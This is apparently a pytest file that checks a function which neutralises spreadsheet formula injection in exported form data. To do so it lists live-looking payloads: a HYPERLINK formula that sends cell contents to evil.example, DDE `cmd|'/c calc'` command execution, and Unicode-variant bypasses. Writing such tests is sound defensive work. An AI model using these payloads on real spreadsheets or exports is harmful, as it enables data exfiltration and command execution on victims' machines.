"""In a spreadsheet people's words stay words."""

import csv
import io

import pytest

from server.exports.forms.cells import defused

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
WORDS = ("", "half of it", "1 = 1", "a-b", "e@mail", "'=1+1", "“=”", "5", "…", "é", "🙂", "\u202e=1")


@pytest.mark.parametrize("formula", FORMULAS)
def test_nothing_that_anybody_wrote_is_computed(formula: str) -> None:
    assert defused(formula) == f"'{formula}"


@pytest.mark.parametrize("words", WORDS)
def test_other_words_stay_as_they_are(words: str) -> None:
    assert defused(words) == words


def test_it_comes_back_from_a_file_as_it_was_behind_its_apostrophe() -> None:
    file = io.StringIO()
    csv.writer(file).writerow([defused(formula) for formula in FORMULAS])

    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))

    assert row == [f"'{formula}" for formula in FORMULAS]
